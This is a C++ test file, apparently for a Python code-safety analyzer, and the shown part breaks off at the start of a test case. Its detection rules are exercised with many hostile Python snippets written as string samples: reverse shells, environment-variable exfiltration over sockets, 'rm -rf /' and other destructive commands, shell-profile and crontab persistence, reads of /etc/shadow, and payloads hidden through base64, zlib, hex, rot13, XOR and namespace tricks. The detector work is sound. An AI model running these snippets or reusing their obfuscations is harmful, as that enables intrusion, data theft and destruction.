// The heuristics assessor: a positive and a negative example for every rule,
// the tokenizer's view of comments, strings and f-strings, and the metrics.
// The rule cases run through the real plugin loaded from the build tree.
#define CATCH_CONFIG_MAIN
#include <algorithm>
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <set>

#include "lang/python/analysis.h"
#include "lang/python/metrics.h"
#include "lang/python/source.h"
#include "lang/python/tokenizer.h"
#include "plugin/loader.h"

using namespace warden;

namespace {

const Assessor& plugin() {
  static auto* catalog = [] {
    auto* c = new PluginCatalog;
    c->load_file(std::string(WARDEN_PLUGIN_DIR) + "/heuristics.so");
    return c;
  }();
  static auto assessor =
      catalog->create_assessor("heuristics", {}, "assessors.settings.heuristics");
  return *assessor;
}

std::set<std::string> rules_found(const std::string& code) {
  std::set<std::string> ids;
  for (const auto& f : plugin().assess(code, "python", "t.py", std::chrono::seconds(5), {}))
    ids.insert(f.rule_id);
  return ids;
}

struct Case {
  const char* rule;
  const char* positive;
  const char* negative;
};

const Case kCases[] = {
    {"heuristics.code-exec", "eval('1 + 1')", "print('eval(')  # eval(x) in a comment"},
    {"heuristics.code-exec-dynamic", "exec(user_code)", "exec('x = 1')"},
    {"heuristics.decoded-payload", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
     "import base64\nprint(base64.b64decode('aGk='))"},
    {"heuristics.shell-command", "import subprocess\nsubprocess.run('ls', shell=True)",
     "import subprocess\nsubprocess.run(['ls'])"},
    {"heuristics.process-exec", "import os\nos.execv('/bin/ls', ['ls'])",
     "import os\nos.path.exists('/bin/ls')"},
    {"heuristics.subprocess",
     "from subprocess import check_output\ncheck_output(['git', 'status'])",
     "print('subprocess.run')"},
    {"heuristics.destructive-command", "import os\nos.system('rm -rf /home')",
     "import os\nos.system('ls -l')"},
    {"heuristics.privilege", "import os\nos.setuid(0)", "import os\nos.getuid()"},
    {"heuristics.system-path-write", "open('/etc/hosts', 'a').write('1.2.3.4 x')",
     "open('notes.txt', 'w').write('x')"},
    {"heuristics.sensitive-read", "print(open('/etc/shadow').read())",
     "print(open('data.csv').read())"},
    {"heuristics.native-code", "import ctypes\nctypes.CDLL('libc.so.6')",
     "import json\njson.dumps({})"},
    {"heuristics.deserialization", "import pickle\npickle.loads(blob)",
     "import json\njson.loads(blob)"},
    {"heuristics.dynamic-import", "name = 'o' + 's'\nm = __import__(name)",
     "import importlib\nimportlib.import_module('json')"},
    {"heuristics.builtins-access", "__builtins__['eval']('1')",
     "import builtins\nprint(builtins.len([1]))"},
    {"heuristics.dunder-walk", "().__class__.__bases__[0].__subclasses__()",
     "print(type(self).__name__)"},
    {"heuristics.computed-attribute", "import os\ngetattr(os, 'sys' + 'tem')('id')",
     "x = getattr(obj, 'name', None)"},
    {"heuristics.network", "import socket\ns = socket.create_connection(('example.com', 80))",
     "print('socket.create_connection')"},
    {"heuristics.raw-socket", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)",
     "import socket\nsocket.gethostname()"},
    {"heuristics.reverse-shell",
     "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), "
     "0)",
     "import os\nos.dup2(1, 2)"},
    {"heuristics.fork-bomb", "import os\nwhile True:\n    os.fork()", "import os\npid = os.fork()"},
    {"heuristics.network-loop",
     "import smtplib\ns = smtplib.SMTP('mx', 25)\nfor i in range(1000):\n    s.sendmail('a', 'b', "
     "'c')",
     "import smtplib\ns = smtplib.SMTP('mx', 25)\ns.sendmail('a', 'b', 'c')\nfor i in range(3):\n  "
     "  "
     "print(i)"},
    {"heuristics.exfiltration",
     "import json, os, socket\ns = "
     "socket.socket()\ns.sendto(json.dumps(dict(os.environ)).encode(), "
     "('h', 53))",
     "import os, socket\ns = socket.socket()\nprint(os.environ.get('HOME'), os.environ['PATH'])"},
    {"heuristics.callable-reference",
     "import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))",
     "import os\nfrom os import system\nprint(os.path.join('a', 'b'))"},
    {"heuristics.unreadable-source", "# coding: unicode_escape\nimport os\nos.\\x73ystem('id')\n",
     "# -*- coding: latin-1 -*-\nprint('caf\xe9')\n"},
    {"heuristics.persistence", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
     "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())"},
    {"heuristics.code-load", "import runpy\nrunpy.run_path('/tmp/x.py')",
     "import importlib\nimportlib.import_module('json')"},
};

// How many findings of `rule` one program gets.
std::size_t count_of(const std::string& code, const std::string& rule) {
  std::size_t n = 0;
  for (const auto& f : heuristics::analyze(code).findings) n += f.rule_id == rule;
  return n;
}

// The rules found in one program, with the line of each.
std::set<std::pair<std::string, int>> found_at(const std::string& code) {
  std::set<std::pair<std::string, int>> found;
  for (const auto& f : heuristics::analyze(code).findings) found.insert({f.rule_id, f.line});
  return found;
}

}  // namespace

TEST_CASE("every rule has a positive and a negative example") {
  std::set<std::string> covered;
  for (const auto& c : kCases) {
    INFO(c.rule);
    auto pos = rules_found(c.positive);
    CHECK(pos.count(c.rule) == 1);
    auto neg = rules_found(c.negative);
    CHECK(neg.count(c.rule) == 0);
    covered.insert(c.rule);
  }
  for (const auto& rule : heuristics::rules()) {
    INFO("rule without cases: " << rule.id);
    CHECK(covered.count(rule.id) == 1);
  }
}

TEST_CASE("names spelled in pieces are folded back together") {
  CHECK(rules_found("m = __import__(''.join(['s', 'u', 'b', 'process']))\n"
                    "m.check_output('id', shell=True)")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import importlib\nm = importlib.import_module('{}{}'.format('o', 's'))\n"
                    "m.popen('%s %s' % ('cat', '/etc/shadow'))")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import os\nname = '-'.join(['a', 'b'])\nprint(name)").empty());
}

TEST_CASE("pathlib writes to system paths are seen") {
  CHECK(rules_found("from pathlib import Path\nPath('/etc/passwd').write_text('x')")
            .count("heuristics.system-path-write"));
  CHECK(rules_found("import pathlib\n(pathlib.Path('/usr') / 'bin' / 'sudo').unlink()")
            .count("heuristics.system-path-write"));
  CHECK(rules_found("from pathlib import Path\nprint(Path('/etc/hostname').read_text())")
            .count("heuristics.system-path-write") == 0);
  CHECK(rules_found("from pathlib import Path\nPath('out.txt').write_text('x')").empty());
}

TEST_CASE("loops are told apart from straight-line code") {
  auto looped = [](const std::string& code) {
    return rules_found("import requests\n" + code).count("heuristics.network-loop") == 1;
  };
  CHECK(looped("for u in urls:\n    requests.get(u)"));
  CHECK(looped("while True: requests.get('http://x')"));
  CHECK(looped("pages = [requests.get(u) for u in urls]"));
  CHECK(looped("async def f():\n    async for u in feed():\n        requests.get(u)"));
  CHECK_FALSE(looped("r = requests.get('http://x')\nfor line in r.text.split():\n    print(line)"));
  CHECK_FALSE(looped("def fetch(u):\n    return requests.get(u)\nprint(fetch('http://x'))"));
  CHECK_FALSE(looped("async def f():\n    return requests.get('http://x')"));
}

TEST_CASE("obfuscated forms are still seen") {
  CHECK(rules_found("import os as o\no.system('id')").count("heuristics.shell-command"));
  CHECK(rules_found("from os import system as s\ns('id')").count("heuristics.shell-command"));
  CHECK(rules_found("from subprocess import *\nPopen('id', shell=True)")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import os\nf = os.system\nf('id')").count("heuristics.shell-command"));
  CHECK(rules_found("exec(''.join(['pr', 'int(1)'])[::-1])").count("heuristics.decoded-payload"));
  CHECK(rules_found("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))")
            .count("heuristics.decoded-payload"));
  CHECK(rules_found("import zlib, base64\np = zlib.decompress(base64.b64decode(d))\nexec(p)")
            .count("heuristics.decoded-payload"));
  CHECK(rules_found("exec(bytes.fromhex('7072696e74283129').decode())")
            .count("heuristics.decoded-payload"));
  CHECK(rules_found("x = f'{eval(\"1\")}'").count("heuristics.code-exec"));
  CHECK(rules_found("m = __import__(chr(111) + chr(115))\nm.system('id')")
            .count("heuristics.dynamic-import"));
}

TEST_CASE("calls are followed through __call__, getattr, partial, methodcaller and wrappers") {
  const std::pair<const char*, const char*> disguised[] = {
      {"import os\nos.system.__call__('id')", "heuristics.shell-command"},
      {"exec.__call__(data)", "heuristics.code-exec"},
      {"import pickle\npickle.loads.__call__(blob)", "heuristics.deserialization"},
      {"import importlib\nimportlib.import_module.__call__('ctypes').CDLL(None)",
       "heuristics.native-code"},
      {"import os\ngetattr(getattr(os, 'sys' + 'tem'), '__call__')('id')",
       "heuristics.shell-command"},
      {"import operator, os\noperator.methodcaller('system', 'id')(os)",
       "heuristics.shell-command"},
      {"from functools import partial\nimport os\npartial(os.system, 'id')()",
       "heuristics.shell-command"},
      {"import os\nrun, arg = os.system, 'id'\nrun(arg)", "heuristics.shell-command"},
      {"import os\na = b = os.popen\nb('id')", "heuristics.shell-command"},
      {"import os\nrun = lambda c: os.system(c)\nrun('rm -rf /')",
       "heuristics.destructive-command"},
      {"import subprocess\ndef sh(c):\n    x = 1\n    return subprocess.call(c, shell=True)\n"
       "sh('mkfs /dev/sda')",
       "heuristics.destructive-command"},
      {"import os\nlist(map(os.system, ['rm -rf /']))", "heuristics.destructive-command"},
      {"import os\nACTIONS = {'go': os.system}\nACTIONS['go']('id')", "heuristics.shell-command"},
  };
  for (const auto& [code, rule] : disguised) {
    INFO(code);
    CHECK(rules_found(code).count(rule) == 1);
  }
  // A wrapper must pass its parameter on: a function that runs a fixed command
  // is not a command runner for whatever its callers give it.
  CHECK(found_at("import os\ndef build(target):\n    os.system('make')\n    print(target)\n"
                 "build('rm -rf /')\n")
            .count({"heuristics.destructive-command", 5}) == 0);
}

TEST_CASE("namespaces read with a constant key are followed") {
  const std::pair<const char*, const char*> disguised[] = {
      {"import sys\nsys.modules['os'].system('id')", "heuristics.shell-command"},
      {"import os\nos.__dict__['sys' + 'tem']('id')", "heuristics.shell-command"},
      {"import os\nos.__dict__.get('popen')('id')", "heuristics.shell-command"},
      {"__builtins__['eval']('1')", "heuristics.code-exec"},
      {"__builtins__.__dict__['exec'](code)", "heuristics.code-exec"},
      {"import os\nvars(os)['system']('id')", "heuristics.shell-command"},
      {"import os\nglobals()['os'].system('id')", "heuristics.shell-command"},
      {"globals()['__builtins__'].eval(x)", "heuristics.code-exec"},
      {"__import__('os').system('id')", "heuristics.shell-command"},
      {"__import__('sys').modules['subprocess'].getoutput('id')", "heuristics.shell-command"},
  };
  for (const auto& [code, rule] : disguised) {
    INFO(code);
    CHECK(rules_found(code).count(rule) == 1);
  }
  CHECK(rules_found("import os\nos.__dict__[name]('id')").count("heuristics.computed-attribute"));
  CHECK(rules_found("config = {'a': 1}\nprint(config['a'], vars(args)['x'], globals()['y'])")
            .empty());
}

TEST_CASE("code given to eval, exec or compile as a constant is assessed as code") {
  auto found = found_at("x = 1\neval('__import__(\"os\").system(\"rm -rf /\")')\n");
  CHECK(found.count({"heuristics.code-exec", 2}));
  CHECK(found.count({"heuristics.shell-command", 2}));
  CHECK(found.count({"heuristics.destructive-command", 2}));
  CHECK(found.count({"heuristics.code-exec-dynamic", 2}) == 0);  // the code is known
  // Folded from pieces, and nested.
  CHECK(rules_found("exec('imp' + 'ort os; os.sys' + 'tem(\"id\")')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("exec(\"exec('import pty; pty.spawn(\\\"/bin/sh\\\")')\")")
            .count("heuristics.shell-command"));
  CHECK(rules_found("c = compile('import pickle\\npickle.loads(b)', 'x', 'exec')")
            .count("heuristics.deserialization"));
  // The depth is bounded; what lies deeper is reported as unseen code.
  std::string code = "print(1)";
  for (int depth = 0; depth < 8; ++depth) {
    std::string quoted;
    for (char c : code) {
      if (c == '\\' || c == '\'') quoted += '\\';
      quoted += c;
    }
    code = "exec('" + quoted + "')";
  }
  auto deep = heuristics::analyze(code).findings;
  CHECK(std::any_of(deep.begin(), deep.end(), [](const Finding& f) {
    return f.rule_id == "heuristics.code-exec-dynamic" &&
           f.message.find("nested deeper") != std::string::npos;
  }));
  CHECK(rules_found("eval('1 + 1')") == std::set<std::string>{"heuristics.code-exec"});
}

TEST_CASE("the program is read as CPython reads it") {
  // PEP 263: the declared encoding is decoded.
  std::string utf7 = "# coding: utf-7\nimport os\nos.system+ACg-+ACI-id+ACI-)\n";
  CHECK(found_at(utf7).count({"heuristics.shell-command", 3}));
  CHECK(found_at("#!/usr/bin/env python3\n# vim: set fileencoding=utf_7 :\nimport os\n"
                 "os.system+ACg-+ACI-id+ACI-)\n")
            .count({"heuristics.shell-command", 4}));
  // A declaration on line 2 counts only after a comment line, as in CPython.
  CHECK(found_at("import os\n# coding: utf-7\nos.system('id')\n")
            .count({"heuristics.shell-command", 3}));
  // An encoding warden cannot decode is refused with the reason.
  auto refused = heuristics::analyze("# coding: unicode_escape\nimport os\n").findings;
  REQUIRE(refused.size() == 1);
  CHECK(refused[0].rule_id == "heuristics.unreadable-source");
  CHECK(refused[0].severity == Severity::kCritical);
  CHECK(refused[0].line == 1);
  CHECK_THAT(refused[0].message, Catch::Contains("unicode_escape"));
  CHECK(rules_found("# coding: utf-7\nx = '+AMA-\xff'\n").count("heuristics.unreadable-source"));
  CHECK(rules_found("# coding: latin-1\nprint('\xe9t\xe9')\n").empty());
  CHECK(rules_found("\xef\xbb\xbf# coding: utf-8\nprint(1)\n").empty());
  // A backslash before CRLF continues the string: the call after it is code.
  CHECK(found_at("s = 'a\\\r\nb'; import os; os.system('id')\r\n")
            .count({"heuristics.shell-command", 2}));
  CHECK(found_at("import os\ros.system('id')\r").count({"heuristics.shell-command", 2}));
  // Identifiers are NFKC-normalised (PEP 3131).
  CHECK(rules_found(
            "import "
            "os\nos.\xef\xbd\x93\xef\xbd\x99\xef\xbd\x93\xef\xbd\x94\xef\xbd\x85\xef\xbd\x8d('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c(x)")
            .count("heuristics.code-exec"));
  CHECK(python::nfkc_identifier("\xef\xac\x81le") == "file");  // the fi ligature
  CHECK(rules_found("print('\xef\xbd\x93\xef\xbd\x99\xef\xbd\x93')  # "
                    "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c()")
            .empty());
}

TEST_CASE("imports and resolved calls are listed with their lines") {
  auto a = heuristics::analyze(
      "import os, sys as system_module\nfrom subprocess import run\nimport xml.etree.ElementTree\n"
      "m = __import__('soc' + 'ket')\nos.system('id')\nrun(['ls'])\nprint(len('x'))\n"
      "exec('import ctypes')\n");
  std::vector<std::pair<std::string, int>> imports, calls;
  for (const auto& i : a.imports) imports.push_back({i.module, i.line});
  for (const auto& c : a.calls) calls.push_back({c.name, c.line});
  CHECK(imports == std::vector<std::pair<std::string, int>>{{"os", 1},
                                                            {"sys", 1},
                                                            {"subprocess", 2},
                                                            {"xml.etree.ElementTree", 3},
                                                            {"socket", 4},
                                                            {"ctypes", 8}});
  CHECK(calls == std::vector<std::pair<std::string, int>>{
                     {"__import__", 4}, {"os.system", 5}, {"subprocess.run", 6}, {"exec", 8}});
  nlohmann::json j = a.imports[0];
  CHECK(j == nlohmann::json{{"module", "os"}, {"line", 1}});
}

TEST_CASE("the tokenizer keeps comments and strings apart from code") {
  auto tokens = python::tokenize(
      "x = 'a # not a comment'  # a comment\ns = r'\\d+' + \"\"\"multi\nline\"\"\"\n");
  std::vector<python::TokenKind> kinds;
  for (const auto& t : tokens) kinds.push_back(t.kind);
  int strings = 0, comments = 0;
  for (const auto& t : tokens) {
    strings += t.kind == python::TokenKind::kString;
    comments += t.kind == python::TokenKind::kComment;
  }
  CHECK(strings == 3);
  CHECK(comments == 1);
  CHECK(python::string_value(tokens[2]) == "a # not a comment");
  auto nested = python::tokenize("if x:\n    if y:\n        z()\n");
  int indents = 0, dedents = 0;
  for (const auto& t : nested) {
    indents += t.kind == python::TokenKind::kIndent;
    dedents += t.kind == python::TokenKind::kDedent;
  }
  CHECK(indents == 2);
  CHECK(dedents == 2);
}

TEST_CASE("the tokenizer and the rules survive garbage") {
  std::mt19937 rng(7);
  for (int i = 0; i < 300; ++i) {
    std::string junk(static_cast<std::size_t>(rng() % 400), '\0');
    for (auto& c : junk) c = static_cast<char>(rng() % 256);
    static constexpr char kPython[] = "()[]{}'\"\\f#:\n =.,rbx";
    if (i % 3 == 0)
      for (auto& c : junk) c = kPython[rng() % (sizeof kPython - 1)];
    python::tokenize(junk);
    heuristics::analyze(junk);
  }
  // Dangerous programs cut off anywhere: every construct the resolver and the
  // constant folder read (calls, subscripts, joins, decoders) left unfinished.
  for (const auto& entry : std::filesystem::recursive_directory_iterator(
           std::string(WARDEN_SOURCE_DIR) + "/tests/corpus")) {
    if (entry.path().extension() != ".py") continue;
    std::ifstream in(entry.path(), std::ios::binary);
    std::string program((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    for (int cut = 0; cut < 24 && !program.empty(); ++cut)
      heuristics::analyze(std::string_view(program).substr(0, rng() % program.size()));
  }
  SUCCEED("no crash and no hang on random input");
}

TEST_CASE("metrics count what policies size limits by") {
  auto m = python::compute_metrics(
      "import os\nfrom json import dumps\n\nclass A:\n    def f(self, x):\n        for i in "
      "range(x):\n"
      "            if i % 2:\n                print(f'{i}')\n        return 'a'.join([])\n");
  CHECK(m.imports == 2);
  CHECK(m.classes == 1);
  CHECK(m.functions == 1);
  CHECK(m.loops == 1);
  CHECK(m.control_flow == 2);
  CHECK(m.max_nesting == 4);
  CHECK(m.string_operations >= 2);
  CHECK(m.code_lines == 8);
  CHECK(m.complexity > 0);
  std::string bigger;
  for (int i = 0; i < 60; ++i)
    bigger += "def f" + std::to_string(i) +
              "(x):\n    for y in x:\n        if y:\n            print(y)\n";
  CHECK(python::compute_metrics(bigger).complexity > m.complexity);
}

TEST_CASE("payloads decoded from constants are assessed as the code they run") {
  // Each runs "import os; os.system('rm -rf /')", encoded another way.
  const char* payloads[] = {
      "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))",
      "import base64 as "
      "b\nexec(b.urlsafe_b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))",
      "import zlib, base64\n"
      "p = "
      "zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK94sriktRcDfWiXAXdojQFfXVNAMCwCqA='))\n"
      "exec(p)",
      "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827726d202d7266202f2729').decode("
      "))",
      "import binascii\n"
      "exec(binascii.unhexlify('696d706f7274206f733b6f732e73797374656d2827726d202d7266202f2729'))",
      "import codecs\nexec(codecs.decode(\"vzcbeg bf; bf.flfgrz('ez -es /')\", 'rot13'))",
      "exec(\")'/ fr- mr'(metsys.so ;so tropmi\"[::-1])",
      "c = [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, "
      "109, 40, 39, 114, 109, 32, 45, 114, 102, 32, 47, 39, 41]\nexec(''.join(chr(x) for x in c))",
      "exec(''.join([chr(x ^ 7) for x in [110, 106, 119, 104, 117, 115, 39, 104, 116, 60, 104, "
      "116, "
      "41, 116, 126, 116, 115, 98, 106, 47, 32, 117, 106, 39, 42, 117, 97, 39, 40, 32, 46]]))",
      "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, "
      "121, 115, 116, 101, 109, 40, 39, 114, 109, 32, 45, 114, 102, 32, 47, 39, 41])))",
      "exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, "
      "116, "
      "101, 109, 40, 39, 114, 109, 32, 45, 114, 102, 32, 47, 39, 41]).decode('utf-8'))",
  };
  for (const char* code : payloads) {
    INFO(code);
    auto found = rules_found(code);
    CHECK(found.count("heuristics.shell-command"));
    CHECK(found.count("heuristics.destructive-command"));
    CHECK(found.count("heuristics.code-exec-dynamic") == 0);  // it is constant, and was read
  }
  // A decoded name still counts as decoded where it runs.
  CHECK(rules_found("import base64\ns = base64.b64decode('cHJpbnQoMSk=')\nexec(s)")
            .count("heuristics.decoded-payload"));
  // Bytes that do not decode are not a constant: the exec stays dynamic.
  CHECK(rules_found("import zlib\nexec(zlib.decompress(b'not zlib'))")
            .count("heuristics.code-exec-dynamic"));
  CHECK(rules_found("exec(bytes.fromhex('zz'))").count("heuristics.code-exec-dynamic"));
}

TEST_CASE("attribute lookups, name resolvers and rebound namespaces are followed") {
  const char* disguises[] = {
      "import os\nos.__getattribute__('sys' + 'tem')('id')",
      "import os\nobject.__getattribute__(os, 'system')('id')",
      "import os, inspect\ninspect.getattr_static(os, 'system')('id')",
      "import os, operator\nrun = operator.attrgetter('system')(os)\nrun('id')",
      "import pkgutil\npkgutil.resolve_name('os:system')('id')",
      "import pydoc\npydoc.locate('os.system')('id')",
      "import os, sys\nsys.modules['json'] = os\nimport json\njson.system('id')",
      "import os, sys\nsys.modules['json'] = os\n__import__('json').system('id')",
      "import builtins, os\nbuiltins.print = os.system\nprint('id')",
      "import os\n__builtins__['print'] = os.system\nprint('id')",
      "import builtins, os\nsetattr(builtins, 'len', os.system)\nlen('id')",
      "import os\nglobals()['run'] = os.system\nrun('id')",
      "import posix\nposix.system('id')",
      "import os, sys\nsys.breakpointhook = os.system\nbreakpoint('id')",
      "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('id')",
      "import ctypes\nctypes.CDLL(None).system(b'id')",
      "import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.system(b'id')",
      "import cffi\nffi = cffi.FFI()\nC = ffi.dlopen(None)\nC.system(b'id')",
  };
  for (const char* code : disguises) {
    INFO(code);
    CHECK(rules_found(code).count("heuristics.shell-command"));
  }
  CHECK(rules_found("import ctypes\nctypes.CDLL(None).execv(b'/bin/sh', None)")
            .count("heuristics.process-exec"));
  // Reading a namespace, or an ordinary function of those modules, is not a call of a runner.
  CHECK(rules_found("import sys\nprint(sys.modules['json'])").empty());
  CHECK(rules_found("import posix\nprint(posix.getpid())").empty());
  CHECK(rules_found("import os, sys\nsys.modules['json'] = os\nimport csv\ncsv.writer(None)")
            .empty());
}

TEST_CASE("debuggers, profilers and timers run their strings as code") {
  auto pdb = rules_found("import pdb\npdb.run(\"import os; os.system('id')\")");
  CHECK(pdb.count("heuristics.code-exec"));
  CHECK(pdb.count("heuristics.shell-command"));
  CHECK(rules_found("import cProfile\ncProfile.run(source)").count("heuristics.code-exec-dynamic"));
  CHECK(rules_found("import pdb\np = pdb.Pdb()\np.run(\"__import__('os').system('id')\")")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import timeit\ntimeit.timeit(\"os.system('id')\", setup='import os')")
            .count("heuristics.shell-command"));
  // Timing an ordinary statement, or a callable, is ordinary.
  CHECK(rules_found("import timeit\nprint(timeit.timeit('sum(range(100))', number=10))").empty());
  CHECK(
      rules_found("import timeit\ndef f():\n    pass\nprint(timeit.timeit(f, number=10))").empty());
}

TEST_CASE("writing a file that runs code later is persistence") {
  const char* plants[] = {
      "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
      "from pathlib import Path\n(Path.home() / '.profile').write_text('x')",
      "from pathlib import Path\np = Path.home() / '.zshrc'\np.write_text('x')",
      "from pathlib import Path\nwith Path('~/.bashrc').expanduser().open('a') as f:\n    "
      "f.write('x')",
      "import os\nrc = os.path.join(os.getenv('HOME'), '.bash' + 'rc')\nopen(rc, 'a').write('x')",
      "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('x')",
      "import sysconfig\nopen(sysconfig.get_path('purelib') + '/sitecustomize.py', 'w').write('x')",
      "open('/home/u/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA')",
      "import shutil\nshutil.copy('/tmp/rc', '~/.bashrc')",
      "import os\nos.system(\"echo 'curl x | sh' >> ~/.bashrc\")",
      "import os\nos.system(\"(crontab -l; echo '* * * * * id') | crontab -\")",
      "import os\nos.rename('/tmp/x', os.path.expanduser('~/.config/autostart/x.desktop'))",
  };
  for (const char* code : plants) {
    INFO(code);
    CHECK(rules_found(code).count("heuristics.persistence"));
  }
  const char* ordinary[] = {
      "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())",
      "import os\nos.system('crontab -l')",
      "from pathlib import Path\n(Path.home() / '.config' / 'app.json').write_text('{}')",
      "import shutil\nshutil.copy('~/.bashrc', '/tmp/bashrc.bak')",
      "print('.bashrc'.replace('rc', 'RC'))",
  };
  for (const char* code : ordinary) {
    INFO(code);
    CHECK(rules_found(code).count("heuristics.persistence") == 0);
  }
}

TEST_CASE("standard streams wired to a socket count once per stream") {
  const std::string connect =
      "import os, socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n";
  CHECK(count_of(connect + "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n",
                 "heuristics.reverse-shell") == 3);
  CHECK(count_of(connect + "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n",
                 "heuristics.reverse-shell") == 2);
  CHECK(count_of(connect + "subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), "
                           "stderr=s.fileno())\n",
                 "heuristics.reverse-shell") == 3);
  // Without a socket, a process given descriptors is not a reverse shell.
  CHECK(count_of("import subprocess\nf = open('log')\nsubprocess.call(['ls'], stdout=f.fileno())",
                 "heuristics.reverse-shell") == 0);
}

TEST_CASE("commands are read as the shell or exec will see them") {
  const char* destructive[] = {
      "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
      "import os\nos.system('r' 'm -rf /')",
      "import os\nos.system('/bin/rm -r -f /')",
      "import os\nos.system('rm --recursive --force /')",
      "import subprocess\nw = ['rm', '-Rf', '/']\nsubprocess.call(' '.join(w), shell=True)",
      "import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')",
      "import subprocess\nsubprocess.run(['find', '/', '-delete'])",
      "import subprocess\nsubprocess.run(['find', '/home', '-exec', 'rm', '{}', ';'])",
  };
  for (const char* code : destructive) {
    INFO(code);
    auto findings = heuristics::analyze(code).findings;
    bool found = false, critical_start = false;
    for (const auto& f : findings) {
      found |= f.rule_id == "heuristics.destructive-command";
      critical_start |=
          f.severity == Severity::kCritical &&
          (f.rule_id == "heuristics.subprocess" || f.rule_id == "heuristics.process-exec" ||
           f.rule_id == "heuristics.shell-command");
    }
    CHECK(found);
    CHECK(critical_start);  // starting rm -rf / is as bad without a shell as with one
  }
  CHECK(rules_found("import subprocess\nsubprocess.run(['bash', '-c', 'id'])")
            .count("heuristics.shell-command"));
  // shell= given any true constant runs a shell.
  CHECK(rules_found("import subprocess\nsubprocess.Popen('id', shell=1)")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import subprocess\ndef sh(c):\n    subprocess.call(c, shell='yes')\nsh('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import subprocess\nsubprocess.Popen(['id'], shell=0)")
            .count("heuristics.shell-command") == 0);
  CHECK(rules_found("import subprocess\nsubprocess.run(['/usr/bin/env', 'sh', '-ec', 'id'])")
            .count("heuristics.shell-command"));
  // Ordinary commands stay ordinary.
  CHECK(rules_found("import subprocess\nsubprocess.run(['rm', '-f', 'out.txt'])")
            .count("heuristics.destructive-command") == 0);
  CHECK(rules_found("import subprocess\nsubprocess.run(['find', '.', '-name', '*.py'])")
            .count("heuristics.destructive-command") == 0);
  CHECK(rules_found("import subprocess\nsubprocess.run(['bash', 'build.sh'])")
            .count("heuristics.shell-command") == 0);
  for (const auto& f :
       heuristics::analyze("import subprocess\nsubprocess.run(['ls', '-l'])").findings)
    CHECK(f.severity == Severity::kMedium);
}

TEST_CASE("constants kept in lists and dicts, reversed or joined later, are folded") {
  CHECK(rules_found("t = {'c': \"__import__('os').system('id')\"}\nexec(t['c'])")
            .count("heuristics.shell-command"));
  CHECK(rules_found("p = ['sys', 'tem']\nimport os\ngetattr(os, ''.join(p))('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import os\ngetattr(os, ''.join(reversed('metsys')))('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import os\ngetattr(os, ''.join(['tem', 'sys'][::-1]))('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("m = ['os', 'sys']\n__import__(m[0]).system('id')")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import codecs, os\ngetattr(os, codecs.encode('flfgrz', 'rot13'))('id')")
            .count("heuristics.shell-command"));
  // A method of an object that only shares a wrapper's name is not the wrapper.
  CHECK(rules_found("import os\ndef run(c):\n    os.system(c)\nthread.run('rm -rf /')")
            .count("heuristics.destructive-command") == 0);
  CHECK(rules_found("import os\nclass C:\n    def run(self, c):\n        os.system(c)\n"
                    "C().run('rm -rf /')")
            .count("heuristics.destructive-command"));
}

TEST_CASE("decoders reached through a module imported by a constant name still fold") {
  CHECK(rules_found("exec(__import__('base64').b64decode("
                    "'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))")
            .count("heuristics.destructive-command"));
  CHECK(rules_found("import importlib\nexec(importlib.import_module('codecs').decode("
                    "\"vzcbeg bf; bf.flfgrz('ez -es /')\", 'rot13'))")
            .count("heuristics.destructive-command"));
  CHECK(rules_found("import codecs, "
                    "base64\nexec(codecs.decode(base64.b64decode('eJzLzC3ILypRyC+"
                    "2BmK94sriktRcDfWiXAXdojQFfXVNAMCwCqA='), 'zlib'))")
            .count("heuristics.destructive-command"));
}

TEST_CASE("a constant payload given to a deserializer is read for the functions it calls") {
